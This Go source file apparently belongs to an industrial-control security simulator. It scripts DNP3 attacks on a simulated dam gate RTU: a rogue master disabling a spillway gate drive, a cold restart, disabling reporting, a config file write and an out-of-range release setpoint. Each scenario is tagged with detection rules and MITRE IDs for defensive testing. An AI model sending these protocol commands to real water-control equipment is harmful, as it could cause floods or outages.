package simulator

import (
	"time"

	"github.com/sluice-ics/sluice/protocols/dnp3"
)

// The DNP3 attacks on the gate station. Times are from the attack start.

// scadaRequest sends one request on the SCADA master's own connection (a
// compromised master, or an operator's mistake).
func scadaRequest(fc dnp3.FunctionCode, objs ...byte) func(*env) error {
	return func(e *env) error {
		m, err := scadaDNP3(e)
		if err != nil {
			return err
		}
		_, err = m.request(fc, objs...)
		return err
	}
}

var atkDNP3RogueMaster = attack{
	name: "rogue DNP3 master disables spillway gate 2's drive", src: HostAttacker, dst: HostRTU,
	rules: []string{"new_device", "dnp3_new_master", "dnp3_unexpected_control"},
	mitre: []string{"T0848", "T0855", "T0831"},
	steps: []step{{0, func(e *env) error {
		m, err := e.openDNP3(HostAttacker, 3)
		if err != nil {
			return err
		}
		defer m.close()
		if _, err := m.request(dnp3.FuncRead, dnp3Integrity...); err != nil {
			return err
		}
		e.wait(900 * time.Millisecond)
		_, err = m.request(dnp3.FuncDirectOperate, crobObj(0, crobLatchOff)...)
		return err
	}}},
}

var atkDNP3ColdRestart = attack{
	name: "the SCADA master's connection orders a cold restart of the gate RTU", src: HostSCADA, dst: HostRTU,
	rules: []string{"dnp3_restart"},
	mitre: []string{"T0816"},
	steps: []step{{700 * time.Millisecond, scadaRequest(dnp3.FuncColdRestart)}},
}

var atkDNP3DisableUnsolicited = attack{
	name: "the SCADA master's connection disables the RTU's unsolicited reporting", src: HostSCADA, dst: HostRTU,
	rules: []string{"dnp3_disable_unsolicited"},
	mitre: []string{"T0878", "T0815"},
	steps: []step{{700 * time.Millisecond, scadaRequest(dnp3.FuncDisableUnsolicited, dnp3EventClasses...)}},
}

// fileCommand is a g70v3 file command object (IEEE 1815-2012 11.9.16.3),
// qualifier 0x5B (one object, a 2-octet size): open name for writing.
func fileCommand(name string) []byte {
	body := []byte{26, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0xFF, 0x01, 0, 0, 0, 0, 0x02, 0, 0, 0x04, 0x01, 0}
	body[0] = 26 // name offset
	body[2] = byte(len(name))
	obj := append([]byte{0x46, 0x03, 0x5B, 0x01}, byte(len(body)+len(name)), 0)
	return append(append(obj, body...), name...)
}

var atkDNP3FileWrite = attack{
	name: "the engineering workstation writes a file to the gate RTU", src: HostEWS, dst: HostRTU,
	rules: []string{"dnp3_new_master", "dnp3_file_operation"},
	mitre: []string{"T0843", "T0867"},
	steps: []step{{0, func(e *env) error {
		m, err := e.openDNP3(HostEWS, 2)
		if err != nil {
			return err
		}
		defer m.close()
		if _, err := m.request(dnp3.FuncOpenFile, fileCommand("/cfg/gate2.cfg")...); err != nil {
			return err
		}
		e.wait(300 * time.Millisecond)
		// File transport (g70v5): handle, block number with the last bit,
		// data.
		data := []byte("gate2.max_open=100\n")
		obj := append([]byte{0x46, 0x05, 0x5B, 0x01, byte(8 + len(data)), 0, 1, 0, 0, 0, 0, 0, 0, 0x80}, data...)
		if _, err := m.request(dnp3.FuncWrite, obj...); err != nil {
			return err
		}
		e.wait(300 * time.Millisecond)
		_, err = m.request(dnp3.FuncCloseFile, 0x46, 0x04, 0x5B, 0x01, 0x0D, 0x00, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0)
		return err
	}}},
}

var atkDNP3OutOfRange = attack{
	name: "the SCADA master sets the ecological release to 9.5 m3/s (permit 2-3)", src: HostSCADA, dst: HostRTU,
	rules: []string{"dnp3_control_value_out_of_range"},
	mitre: []string{"T0836", "T0831"},
	steps: []step{
		{700 * time.Millisecond, scadaRequest(dnp3.FuncSelect, analogOutObj(1, 95)...)},
		{900 * time.Millisecond, scadaRequest(dnp3.FuncOperate, analogOutObj(1, 95)...)},
	},
}
